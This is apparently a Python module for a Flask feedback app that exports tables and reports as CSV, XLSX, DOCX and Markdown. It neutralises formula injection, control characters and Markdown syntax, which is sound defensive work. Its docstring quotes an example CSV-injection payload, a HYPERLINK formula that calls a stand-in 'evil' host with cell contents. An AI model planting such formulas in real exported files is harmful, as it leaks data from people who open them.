"""The one writer behind every download (CSV, XLSX, DOCX, Markdown): participant text is hostile until neutralised.

A comment such as `=HYPERLINK("http://evil/?"&A1)` or `@SUM(...)` becomes a live formula when a spreadsheet
opens the file (CSV injection, CWE-1236). Every text cell goes through `safe_text`, which prefixes such a
value with an apostrophe (OWASP's advice); numbers, dates and booleans are written as typed values, so
sorting and sums keep working. Views build an `ExportTable` and return `table_response(table, format)`; several
tables make one workbook, a sheet each, with `workbook_response(title, tables)`.

Documents (the approved quotes, the yearly report) are an `ExportDocument` of paragraphs, tables (`ExportTable`)
and pictures (`Picture`, PNG), written as DOCX or Markdown by `document_response`: the text goes into Word as plain
runs (never a field, a hyperlink or raw XML), control characters are stripped, and Markdown's own characters are
escaped so that no link, image or HTML comes out.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from datetime import date, datetime
from typing import Any

from flask import Response
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, WriteOnlyCell
from openpyxl.utils import get_column_letter

from feedback.audit import record_download

#: Characters a spreadsheet reads as the start of a formula (and the tab/CR tricks that hide one).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
FORMATS = ("csv", "xlsx")
#: Full Content-Type headers, given as `content_type` (a `mimetype` would get Werkzeug's charset a second time).
MIME_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


def safe_text(value: str) -> str:
    """The text as a spreadsheet must show it: never a formula, never a control character."""
    # openpyxl's own list misses U+FFFE, U+FFFF and lone surrogates, which XML (so XLSX) refuses too.
    value = _NOT_XML_RE.sub("", ILLEGAL_CHARACTERS_RE.sub("", value))
    stripped = value.lstrip(" \u00a0")
    if stripped.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_cell(value: Any) -> Any:
    """Typed values stay typed (a number is not text); anything else is written as neutralised text."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | date | datetime):
        return value
    return safe_text(str(value))


@dataclass(frozen=True)
class Column:
    key: str
    label: str
    #: How a spreadsheet shows the column's numbers ("0%", "0.0"); documents write them the same way.
    number_format: str | None = None


@dataclass
class ExportTable:
    """A table as a user downloads it: a title (the sheet's name), labelled columns, rows of values."""

    title: str
    columns: Sequence[Column]
    rows: list[dict[str, Any]] = field(default_factory=list)

    def values(self) -> Iterable[list[Any]]:
        for row in self.rows:
            yield [safe_cell(row.get(column.key)) for column in self.columns]


def to_csv(table: ExportTable) -> bytes:
    """UTF-8 with a BOM and semicolons: what a French spreadsheet opens without an import dialog."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    writer.writerow([safe_text(column.label) for column in table.columns])
    for values in table.values():
        writer.writerow([_csv_value(v) for v in values])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def _csv_value(value: Any) -> str:
    if isinstance(value, float):
        return f"{value:.4f}".rstrip("0").rstrip(".").replace(".", ",")  # the French decimal comma
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, bool):
        return "oui" if value else "non"
    return str(value)


def to_xlsx(table: ExportTable) -> bytes:
    return to_xlsx_workbook([table])


def to_xlsx_workbook(tables: Sequence[ExportTable]) -> bytes:
    """One sheet per table, named after its title (made unique: Excel refuses two sheets of the same name)."""
    workbook = Workbook(write_only=True)
    used: set[str] = set()
    for table in tables:
        sheet = workbook.create_sheet(title=_unique_sheet_title(table.title, used))
        sheet.append([safe_text(column.label) for column in table.columns])
        formats = [column.number_format for column in table.columns]
        for values in table.values():
            sheet.append(
                [
                    _formatted_cell(sheet, value, number_format)
                    for value, number_format in zip(values, formats, strict=True)
                ]
            )
        for index, column in enumerate(table.columns, start=1):
            sheet.column_dimensions[get_column_letter(index)].width = min(60, max(10, len(column.label) + 2))
    if not tables:
        workbook.create_sheet(title="Export")
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _formatted_cell(sheet, value: Any, number_format: str | None) -> Any:
    if number_format is None or isinstance(value, bool) or not isinstance(value, int | float):
        return value
    cell = WriteOnlyCell(sheet, value)
    cell.number_format = number_format
    return cell


def _unique_sheet_title(title: str, used: set[str]) -> str:
    base = _sheet_title(title)
    name, number = base, 2
    while name.casefold() in used:
        suffix = f" ({number})"
        name, number = base[: 31 - len(suffix)] + suffix, number + 1
    used.add(name.casefold())
    return name


def _sheet_title(title: str) -> str:
    """Excel refuses []:*?/\\ in a sheet's name and more than 31 characters; XML refuses control characters."""
    cleaned = re.sub(r"[\[\]:*?/\\]", " ", _NOT_XML_RE.sub("", title)).strip() or "Export"
    return cleaned[:31]


def download_name(title: str, extension: str) -> str:
    """An ASCII file name from the table's title: "Taux par axe 2025" -> "taux-par-axe-2025.csv"."""
    ascii_title = unicodedata.normalize("NFKD", title).encode("ascii", "ignore").decode()
    slug = re.sub(r"[^a-z0-9]+", "-", ascii_title.lower()).strip("-") or "export"
    return f"{slug[:80]}.{extension}"


def workbook_response(title: str, tables: Sequence[ExportTable]) -> Response:
    """Several tables as one XLSX download, a sheet each. Audited."""
    content = to_xlsx_workbook(tables)
    record_download(title, "xlsx", sum(len(table.rows) for table in tables))
    response = Response(content, content_type=MIME_TYPES["xlsx"])
    response.headers["Content-Disposition"] = f'attachment; filename="{download_name(title, "xlsx")}"'
    return response


def file_response(content: bytes, format: str, title: str, rows: int, filters: dict | None = None) -> Response:
    """A file made already (a report file the job queue prepared) as a download in `format` ("xlsx" or "docx").
    Audited, with the filters it was made for."""
    record_download(title, format, rows, filters)
    response = Response(content, content_type={**MIME_TYPES, **DOCUMENT_MIME_TYPES}[format])
    response.headers["Content-Disposition"] = f'attachment; filename="{download_name(title, format)}"'
    return response


def table_response(table: ExportTable, format: str) -> Response:
    """The table as a download in `format` ("csv" or "xlsx"); the caller has checked the format. Audited."""
    content = to_xlsx(table) if format == "xlsx" else to_csv(table)
    record_download(table.title, format, len(table.rows))
    response = Response(content, content_type=MIME_TYPES[format])
    response.headers["Content-Disposition"] = f'attachment; filename="{download_name(table.title, format)}"'
    return response


# --- Documents (DOCX, Markdown) ---------------------------------------------------------------------------------

DOCUMENT_FORMATS = ("docx", "md")
DOCUMENT_MIME_TYPES = {
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    "md": "text/markdown; charset=utf-8",
}
#: XML 1.0 refuses these (a DOCX is XML): C0 controls but tab and newline, U+FFFE, U+FFFF and lone surrogates.
_NOT_XML_RE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ufffe\uffff\ud800-\udfff]")
#: Characters that make Markdown links, images, emphasis, code, tables or HTML; escaped with a backslash.
_MARKDOWN_RE = re.compile(r"([\\`*_\[\]<>&|~#!])")


@dataclass(frozen=True)
class Paragraph:
    """One paragraph of a document; `kind` is "heading", "subheading", "quote", "attribution" or "text"."""

    text: str
    kind: str = "text"


@dataclass(frozen=True)
class Picture:
    """A PNG picture of a document (a chart, a word cloud); its caption is written below it and is its alt text."""

    content: bytes
    caption: str
    width_cm: float = 16.0


@dataclass
class ExportDocument:
    title: str
    #: Paragraphs, tables (their title as a caption above them) and pictures, in order.
    paragraphs: list[Paragraph | ExportTable | Picture] = field(default_factory=list)


def document_text(value: Any) -> str:
    """Text as a document may hold it: NFC, no control character (tabs and line breaks are kept)."""
    text = unicodedata.normalize("NFC", "" if value is None else str(value))
    return _NOT_XML_RE.sub("", text.replace("\r\n", "\n").replace("\r", "\n"))


def markdown_text(value: Any) -> str:
    """One line of inert Markdown: whitespace collapsed, every character Markdown acts on escaped."""
    return _MARKDOWN_RE.sub(r"\\\1", " ".join(document_text(value).split()))


def document_value(value: Any, number_format: str | None = None) -> str:
    """A table cell as a document shows it: 7411 -> "7 411", 1.25 -> "1,3", 0.85 with "0%" -> "85 %", a date in
    ISO; text through `document_text`."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "oui" if value else "non"
    if isinstance(value, int | float):
        if number_format and number_format.endswith("%"):
            digits = len(number_format.partition(".")[2]) - 1 if "." in number_format else 0
            return f"{value * 100:.{max(0, digits)}f}\u202f%".replace(".", ",")
        if isinstance(value, int) or float(value).is_integer():
            return f"{int(value):,}".replace(",", "\u202f")
        digits = len(number_format.partition(".")[2]) if number_format and "." in number_format else 1
        return f"{value:,.{digits}f}".replace(",", "\u202f").replace(".", ",")
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, date):
        return value.isoformat()
    return document_text(value)


def _docx_table(word, table: ExportTable) -> None:
    from docx.enum.text import WD_ALIGN_PARAGRAPH

    word.add_paragraph(document_text(table.title), style="Caption")
    grid = word.add_table(rows=1 + len(table.rows), cols=len(table.columns))
    grid.style = "Table Grid"
    for cell, column in zip(grid.rows[0].cells, table.columns, strict=True):
        cell.text = ""
        cell.paragraphs[0].add_run(document_text(column.label)).bold = True
    for row, values in zip(grid.rows[1:], table.rows, strict=True):
        for cell, column in zip(row.cells, table.columns, strict=True):
            value = values.get(column.key)
            cell.text = document_value(value, column.number_format)  # a plain run, whatever the text says
            if isinstance(value, int | float) and not isinstance(value, bool):
                cell.paragraphs[0].alignment = WD_ALIGN_PARAGRAPH.RIGHT


def _docx_picture(word, picture: Picture) -> None:
    from docx.shared import Cm

    caption = document_text(picture.caption)
    word.add_picture(io.BytesIO(picture.content), width=Cm(picture.width_cm))
    shape = word.inline_shapes[-1]
    shape._inline.docPr.set("descr", caption)  # the alt text screen readers and layout software read
    word.add_paragraph(caption, style="Caption")


def to_docx(document: ExportDocument) -> bytes:
    """A Word document in the default template's styles (Title, Heading 1 and 2, Quote, Caption, Table Grid), ready
    to paste into a layout."""
    from docx import Document
    from docx.enum.text import WD_ALIGN_PARAGRAPH
    from docx.shared import Pt

    word = Document()
    word.core_properties.title = document_text(document.title)[:255]
    word.core_properties.author = "Retours"
    word.add_heading(document_text(document.title), level=0)
    for paragraph in document.paragraphs:
        if isinstance(paragraph, ExportTable):
            _docx_table(word, paragraph)
            continue
        if isinstance(paragraph, Picture):
            _docx_picture(word, paragraph)
            continue
        text = document_text(paragraph.text)
        if paragraph.kind == "heading":
            word.add_heading(text, level=1)
        elif paragraph.kind == "subheading":
            word.add_heading(text, level=2)
        elif paragraph.kind == "quote":
            word.add_paragraph(text, style="Quote")
        elif paragraph.kind == "attribution":
            added = word.add_paragraph()
            run = added.add_run(text)  # a plain run: whatever the text says, never a field or a link
            run.font.size = Pt(9)
            added.alignment = WD_ALIGN_PARAGRAPH.RIGHT
        else:
            word.add_paragraph(text)
    buffer = io.BytesIO()
    word.save(buffer)
    return buffer.getvalue()


def to_markdown(document: ExportDocument) -> bytes:
    lines = [f"# {markdown_text(document.title)}", ""]
    for paragraph in document.paragraphs:
        if isinstance(paragraph, ExportTable):
            lines += [f"*{markdown_text(paragraph.title)}*", ""]
            lines.append("| " + " | ".join(markdown_text(column.label) for column in paragraph.columns) + " |")
            lines.append("|" + "---|" * len(paragraph.columns))
            for values in paragraph.rows:
                cells = (markdown_text(document_value(values.get(c.key), c.number_format)) for c in paragraph.columns)
                lines.append("| " + " | ".join(cells) + " |")
            lines.append("")
            continue
        if isinstance(paragraph, Picture):
            lines += [f"*{markdown_text(paragraph.caption)}*", ""]  # the picture itself is in the DOCX only
            continue
        text = markdown_text(paragraph.text)
        if paragraph.kind == "heading":
            lines += [f"## {text}", ""]
        elif paragraph.kind == "subheading":
            lines += [f"### {text}", ""]
        elif paragraph.kind == "quote":
            lines += [f"> {text}", ">"]
        elif paragraph.kind == "attribution":
            lines += [f"> {text}", ""]
        else:
            lines += [text, ""]
    return ("\n".join(lines).rstrip() + "\n").encode("utf-8")


def document_response(document: ExportDocument, format: str) -> Response:
    """The document as a download in `format` ("docx" or "md"); the caller has checked the format. Audited."""
    content = to_docx(document) if format == "docx" else to_markdown(document)
    record_download(document.title, format, len(document.paragraphs))
    response = Response(content, content_type=DOCUMENT_MIME_TYPES[format])
    response.headers["Content-Disposition"] = f'attachment; filename="{download_name(document.title, format)}"'
    return response
